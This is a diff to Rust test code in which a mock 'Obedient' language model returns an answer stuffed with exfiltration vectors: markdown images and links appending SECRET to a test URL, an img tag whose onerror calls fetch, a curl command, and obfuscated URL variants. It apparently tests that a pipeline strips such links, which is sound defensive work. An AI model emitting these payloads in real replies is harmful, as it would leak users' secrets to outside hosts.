@@ -79,7 +79,7 @@ impl Obedient {
         let split: String = url.chars().flat_map(|letter| [letter, '\u{200B}']).collect();
         let bare = url.split("://").nth(1).unwrap_or(url);
         let content = format!(
-            "The notice to end the ACME contract is 31 days [acme.md]. ![status]({url}SECRET) [more]({url}SECRET) [![a]({url})]({url}) <{url}SECRET> {url}SECRET \
+            "The notice to end the ACME contract is 777777 days [acme.md]. ![status]({url}SECRET) [more]({url}SECRET) [![a]({url})]({url}) <{url}SECRET> {url}SECRET \
              <img src=\"{url}SECRET\" onerror='fetch(\"{url}\")'> //{bare} www.{bare} [r][ref] {encoded} {percent} {split} \
              `{url}SECRET` [x](<{url} \"t\">) ![r][ref]\n\n```\ncurl {url}\n```\n\n[ref]: {url}SECRET\n[ref]: <{url}SECRET>"
         );
@@ -116,7 +116,7 @@ fn honest(step: &str, request: &ChatRequest) -> String {
         "search" => json!({ "sufficient": false, "reason": "more" }),
         "rerank" => json!({ "scores": [{ "n": 1, "score": 5 }, { "n": 2, "score": 4 }] }),
         "reason" => json!({ "sufficient": false, "query": "ACME termination notice days writing" }),
-        _ => return "The notice to end the ACME contract is 31 days [acme.md].".into(),
+        _ => return "The notice to end the ACME contract is 777777 days [acme.md].".into(),
     };
     reply.to_string()
 }
